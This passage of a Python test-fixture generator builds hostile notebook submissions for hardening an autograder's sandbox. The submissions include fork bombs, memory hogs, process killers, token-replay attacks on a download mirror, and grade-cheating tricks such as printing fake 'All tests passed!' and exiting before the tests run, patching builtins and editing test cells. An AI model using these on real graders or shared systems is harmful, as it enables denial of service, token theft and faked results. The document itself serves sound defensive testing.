print("FLOOD", json.dumps({"opened": sum(c[0] for c in counts), "established": sum(c[1] for c in counts)}))

base = os.environ["NGRAM_BASE_URL"]

def download_after():
    token = uuid.uuid4().hex
    name = load_manifest()[0]["file"]
    with urllib.request.urlopen(f"{site_root(base)}/_t/{token}{PATH_PREFIX}{name}", timeout=60) as response:
        size = len(response.read())
    records = served(base, token)
    assert [r["file"] for r in records] == [name], records
    return size

attempt("MIRROR-AFTER-FLOOD", download_after)'''

MIRROR_REPLAY = ATTEMPT + '''
import json, os, time, urllib.request, uuid
from course.data import PATH_PREFIX, load_manifest, served, site_root

WINDOW = 25  # seconds of listening to the mirror and replaying what it lists, while neighbours download
base = os.environ["NGRAM_BASE_URL"]
manifest = load_manifest()
biggest = max(manifest, key=lambda e: e["bytes"])["file"]

def fetch(token, name):
    with urllib.request.urlopen(f"{site_root(base)}{'/_t/' + token if token else ''}{PATH_PREFIX}{name}",
                                timeout=30) as response:
        return len(response.read())

mine = [f"mine-{uuid.uuid4().hex}"]
made_up = [uuid.uuid4().hex for _ in range(5)]  # tokens such as a hidden test makes (uuid4().hex)
fetch(mine[0], manifest[0]["file"])
for token in made_up:
    attempt("DOWNLOAD-UNDER-A-MADE-UP-TOKEN", lambda: fetch(token, biggest))

replayed, listed = {}, []
deadline = time.monotonic() + WINDOW
while time.monotonic() < deadline:
    listed = served(base)
    for record in listed:
        token = record.get("token")
        if token and token not in mine and token not in made_up:  # someone else's: download under it, twice
            for _ in range(2):
                try:
                    fetch(token, record["file"])
                    replayed[token] = replayed.get(token, 0) + 1
                except OSError:
                    pass
    time.sleep(0.25)
print("SERVED-LISTED", json.dumps({"records": len(listed), "tokens": sorted({str(r.get("token")) for r in listed}),
                                   "own": mine + made_up}))
print("REPLAYED", json.dumps(replayed))'''

# One cell of two million statements (4 MB): the grader parses no cell that long (scan.MAX_PARSED_CHARS); parsing
# this one takes about 3 GB.
TWO_MILLION_STATEMENTS = 'print("TWO-MILLION-STATEMENTS", flush=True)\n' + "0;" * 2_000_000

SLEEPS_PAST_TIMEOUT = 'import time\nprint("SLEEPING-CELL {i}", flush=True)\ntime.sleep(@CELL_SLEEP@)  # past --timeout'

NUMPY_DRAWS = '''\
import json

def draws():
    import os, random
    import numpy
    return [os.getpid(), float(numpy.random.random()), random.random()]

print("DRAWS", json.dumps({"kernel": draws(), "engines": dview.apply_sync(draws)}))'''


# -- the files ---------------------------------------------------------------------------------------

def _good_with(changes: dict) -> dict:
    """{name: (edit, grade_id, code)} -> {name: a solved notebook with that one change}."""
    out = {}
    for name, (edit, gid, code) in changes.items():
        nb = good()
        edit(nb, gid, code)
        out[name] = nb
    return out


def _runaway() -> dict:
    return _good_with({
        "infinite-loop": (set_source, "q2", "while True:\n    pass\nanswer = 42"),
        # only the first call loops: q1-public times out, q1-hidden passes
        "test-cell-loops-forever": (set_source, "q1", "calls = []\n\ndef engine_pids():\n    calls.append(1)\n"
                                    "    if len(calls) == 1:\n        while True:\n            pass\n"
                                    "    return dview.apply_sync(os.getpid)"),
        "ignores-sigint": (insert_after, "q1-hidden", "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
                           "print('IGNORING-SIGINT', flush=True)\nwhile True:\n    pass"),
        "engine-task-never-returns": (set_source, "q2", "import time\nstuck = dview.apply_async(time.sleep, 10**6)\n"
                                      "answer = 42"),
        "prints-forever": (set_source, "q2",
                           "while True:\n    print('all work and no play makes jack a dull boy ' * 20)\nanswer = 42"),
        "memory-hog-kernel": (set_source, "q2", HOG_KERNEL),
        "memory-hog-engines": (set_source, "q2", HOG_ENGINES),
        "leaves-child-processes": (insert_after, "q1-hidden", CHILDREN),
    })


def _crashes() -> dict:
    return _good_with({
        "kernel-exits": (set_source, "q2", "import os\nos._exit(1)\nanswer = 42"),
        "kernel-sigkills-itself": (set_source, "q2", "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n"
                                   "answer = 42"),
        "engines-os-exit": (set_source, "q2",
                            "import time\ndview.apply_async(os._exit, 1)\ntime.sleep(1)\nanswer = 42"),
        "client-shutdown": (set_source, "q2", "rc.shutdown(hub=True, block=True)\nanswer = 42"),
    })


def _structure() -> dict:
    out = {}
    nb = good()
    delete(nb, "q1-hidden")
    out["deleted-test-cell"] = nb

    nb = good()  # q2's solution cell is gone: restoring it must not hand out the instructor's solution
    delete(nb, "q2")
    out["deleted-solution-cell"] = nb

    nb = stub()
    for gid in ("q1-public", "q1-hidden", "q2-clean"):
        set_source(nb, gid, "assert True  # looks fine to me")
    out["edited-test-cells"] = nb

    nb = good()
    nb.cells[index_of(nb, "q1-public")].metadata["nbgrader"]["points"] = 50
    nb.cells[index_of(nb, "q2-clean")].metadata["nbgrader"]["points"] = 100
    out["changed-points-metadata"] = nb

    nb = good()  # a second q1-public at the end: still 1 point, not 2
    nb.cells.append(copy.deepcopy(nb.cells[index_of(nb, "q1-public")]))
    out["duplicated-grade-id"] = nb

    nb = stub()  # a passing cell posing as q2-clean, before the real one, and an invented bonus test
    at = index_of(nb, "setup") + 1
    nb.cells[at:at] = [
        new_code_cell("assert True", metadata=meta("q2-clean", grade=True, locked=True, points=100)),
        new_code_cell("assert True", metadata=meta("q3-bonus", grade=True, locked=True, points=10)),
    ]
    out["extra-cell-reuses-grade-id"] = nb

    nb = good()  # q2-clean moved to the top, before anything it needs
    cell = nb.cells.pop(index_of(nb, "q2-clean"))
    nb.cells.insert(index_of(nb, "setup") + 1, cell)
    out["reordered-cells"] = nb

    nb = good()  # ordinary scratch work: allowed, kept in place, costs nothing
    nb.cells.insert(index_of(nb, "intro") + 1, new_markdown_cell("My notes: engines are processes."))
    insert_after(nb, "q1", "scratch = sum(range(10))\nprint('SCRATCH', scratch)")
    insert_after(nb, "q2", "undefined_name  # a stray experiment that fails")
    out["extra-cells"] = nb

    nb = good()
    nb.metadata["kernelspec"] = {"name": "julia-1.9", "display_name": "Julia 1.9.3", "language": "julia"}
    nb.metadata["language_info"] = {"name": "julia", "version": "1.9.3"}
    out["wrong-kernel-name"] = nb

    out["nbformat3"] = ("v3", good())
    return out


def _cheating() -> dict:
    out = {}
    for name, code in [("input-transformer-blanks-cells", INPUT_TRANSFORMER),
                       ("ast-transformer-drops-asserts", AST_TRANSFORMER),
                       ("overrides-showtraceback", QUIET_ERRORS),
                       ("fake-pass-messages", FAKE_PASS_MESSAGES),
                       ("forges-execute-replies", FORGE_REPLIES),
                       ("exits-before-tests", "print('All tests passed!')\nexit()"),
                       ("os-exit-0-before-tests", "print('All tests passed!')\nimport os\nos._exit(0)")]:
        nb = stub()
        insert_after(nb, "setup", code)
        out[name] = nb
    for name, code in [("patches-helpers", PATCH_IPP), ("patches-builtins", PATCH_BUILTINS),
                       ("shadows-builtins", SHADOW_BUILTINS)]:
        nb = stub(patch())
        set_source(nb, "q1", code)
        out[name] = nb
    return out


def _sandbox() -> dict:
    return _good_with({"reads-instructor-files": (insert_after, "setup", READ_INSTRUCTOR_FILES),
                       "writes-gradebook": (insert_after, "setup", WRITE_GRADEBOOK)})


def insert_cells_after(nb, gid: str, sources: tuple) -> None:
    insert_after(nb, gid, *sources)


def _sealed() -> dict:
    """Attacks on the box a submission runs in (tests/grader/test_sealed.py), and a good submission taking a while."""
    after = "q1-hidden"  # the q1 tests have run and passed; q2 and its test come after the attack
    return _good_with({
        "kills-every-process": (insert_after, after, KILL_EVERY_PROCESS),
        "stops-every-process": (insert_after, after, STOP_EVERY_PROCESS),
        "fork-bomb": (insert_after, after, FORK_BOMB),
        "memory-in-every-process": (set_source, "q2", MEMORY_IN_EVERY_PROCESS),
        "fills-tmp": (insert_after, after, FILL_TMP),
        "fills-workdir": (insert_after, after, FILL_WORKDIR),
        "setsid-env-i-sleeper": (insert_after, after, SETSID_SLEEPER),
        "prints-its-environment": (insert_cells_after, after, (PRINT_ENVIRONMENT, PRINT_ENGINE_ENVIRONMENT)),
        "probes-neighbours": (insert_after, after, PROBE_NEIGHBOURS),
        "good-slow": (insert_after, "setup", GOOD_SLOW),
    })


NGRAMS = "07-download-ngrams-in-parallel"  # the real exercise 07, for the mirror's neighbours
CELL_COUNT = 20  # cells that each sleep just past --timeout


def ngrams() -> Exercise:
    return Exercise(NGRAMS, Path(f"{NGRAMS}.ipynb"), nbformat.read(HERE.parent / "exercises" / f"{NGRAMS}.ipynb", 4))


def _hostile() -> dict:
    """Issue 20 attacks (tests/grader/test_sealed.py), after the q1 tests (which they must not cost), and exercise 07
    solved, for the mirror's neighbours."""
    after = "q1-hidden"
    sleepers = tuple(SLEEPS_PAST_TIMEOUT.replace("{i}", str(i)) for i in range(CELL_COUNT))
    out = _good_with({
        "reads-course-and-project": (insert_cells_after, after, (READS_COURSE_AND_PROJECT, SCANS_MOUNTS_AND_WALKS)),
        "writes-outside-its-box": (insert_after, after, WRITES_OUTSIDE),
        "probes-the-network": (insert_after, after, NETWORK_PROBE),
        "binds-every-port": (insert_after, after, BINDS_EVERY_PORT),
        "floods-the-mirror": (insert_after, after, MIRROR_FLOOD),
        "replays-mirror-tokens": (insert_after, after, MIRROR_REPLAY),
        "two-million-statements": (insert_after, after, TWO_MILLION_STATEMENTS),
        "sleeps-past-timeout": (insert_cells_after, after, sleepers),
        "numpy-draws": (insert_after, after, NUMPY_DRAWS),
    })
    out["good-07"] = good(ngrams())
    return out


def _unreadable() -> dict[str, bytes]:
    text = _text(good())
    french = good()
    french.cells.insert(1, new_markdown_cell("Réponse : les moteurs sont des processus, très bien."))
    noise = b"".join(hashlib.sha256(str(i).encode()).digest() for i in range(64))
    return {
        "not-json": b"<!DOCTYPE html>\n<html><head><title>01-toy - JupyterLab</title></head>\n"
                    b"<body>This is the web page, not the notebook.</body></html>\n",
        "empty": b"",
        "truncated": text.encode()[: len(text) // 2],
        "binary": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + noise + b"\x00" * 64,
        "not-utf8": _text(french).encode("latin-1"),
        # valid JSON, but nested 100,000 levels deep: json and nbformat raise RecursionError on it
        "deeply-nested": b'{"nbformat": 4, "nbformat_minor": 5, "metadata": {"x": ' + b"[" * 100_000
                         + b"]" * 100_000 + b'}, "cells": []}\n',
    }


PATCH_FILES = {"patches-helpers", "patches-builtins", "shadows-builtins"}
SANDBOX_FILES = {"reads-instructor-files", "writes-gradebook"}
SEALED_FILES = {"kills-every-process", "stops-every-process", "fork-bomb", "memory-in-every-process", "fills-tmp",
                "fills-workdir", "setsid-env-i-sleeper", "prints-its-environment", "probes-neighbours", "good-slow"}
HOSTILE_FILES = {"reads-course-and-project", "writes-outside-its-box", "probes-the-network", "binds-every-port",
                 "floods-the-mirror", "replays-mirror-tokens", "two-million-statements", "sleeps-past-timeout",
                 "numpy-draws", "good-07"}


def _text(nb, version: int = 4) -> str:
    nb = copy.deepcopy(nb)
    if version == 4:
        for i, cell in enumerate(nb.cells):  # fixed ids: the same bytes every time
            cell.id = f"cell-{i}"
    return nbformat.writes(nb, version=version) + "\n"


def fixtures() -> dict[str, bytes]:
    """{file name: bytes} of every fixture."""
    files: dict[str, bytes] = {"good.ipynb": _text(good()).encode(), "stub.ipynb": _text(stub()).encode(),
                               "good-02-patch.ipynb": _text(good(patch())).encode()}
    for group in (_runaway(), _crashes(), _structure(), _cheating(), _sandbox(), _sealed(), _hostile()):
        for name, nb in group.items():
            if isinstance(nb, tuple):
                files[f"{name}.ipynb"] = _text(nb[1], version=3).encode()
            else:
                files[f"{name}.ipynb"] = _text(nb).encode()
    for name, data in _unreadable().items():  # not notebooks: kept out of *.ipynb so tools skip them
        files[f"{name}.ipynb.broken"] = data
    return files


def main(out: str | Path = HERE / "files") -> int:
    out = Path(out)
    out.mkdir(parents=True, exist_ok=True)
    files = fixtures()
    for name, data in sorted(files.items()):
        (out / name).write_bytes(data)
    print(f"wrote {len(files)} files to {out}")
    return 0


if __name__ == "__main__":
    sys.exit(main(*sys.argv[1:2]))
